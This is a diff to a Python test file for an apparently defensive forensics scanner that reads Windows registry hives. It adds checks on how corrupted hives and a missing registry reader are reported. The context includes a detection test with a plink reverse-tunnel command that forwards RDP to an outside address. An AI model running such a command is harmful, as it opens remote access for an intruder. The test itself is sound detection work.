@@ -7,6 +7,7 @@ The trees are built from real hives (regipy's test data) changed with hivex; see
 from __future__ import annotations
 
 import base64
+import sys
 import zipfile
 from pathlib import Path
 
@@ -228,6 +229,10 @@ def test_a_corrupted_hive_is_a_located_problem_and_the_rest_is_found(shared_data
     assert {"windows.unattend-password", "windows.scheduled-task"} <= rules
     assert result.warnings, "the corrupted hive must be reported"
     assert all("Windows/System32/config/SYSTEM" in w for w in result.warnings), result.warnings
+    # located (key and offset), printable and bounded: not one line per broken cell
+    assert any("HKLM\\SYSTEM\\ControlSet001\\Services\\" in w and " at " in w for w in result.warnings)
+    assert len(result.warnings) <= 10
+    assert all(w.isprintable() and len(w) < 400 for w in result.warnings)
 
 
 def test_a_hive_that_is_not_a_hive_is_a_located_problem(tmp_path: Path) -> None:
@@ -274,3 +279,12 @@ def test_cradles_are_named_and_encoded_commands_decoded() -> None:
     assert cradle_in("plink.exe -ssh -N -R 4000:127.0.0.1:3389 support@203.0.113.60") == "reverse tunnel"
     assert cradle_in("%windir%\\system32\\SecurityHealthSystray.exe") is None
     assert cradle_in('"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background') is None
+
+
+def test_without_the_registry_reader_a_windows_tree_gets_a_warning(
+    implanted: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setitem(sys.modules, "cranewatch.forensics.windows.checks", None)  # as if regipy were absent
+    result = scan_image(implanted, workers=1)
+    assert not [f for f in result.findings if f.rule.startswith("windows.")]
+    assert any("cranewatch[windows]" in w for w in result.warnings)
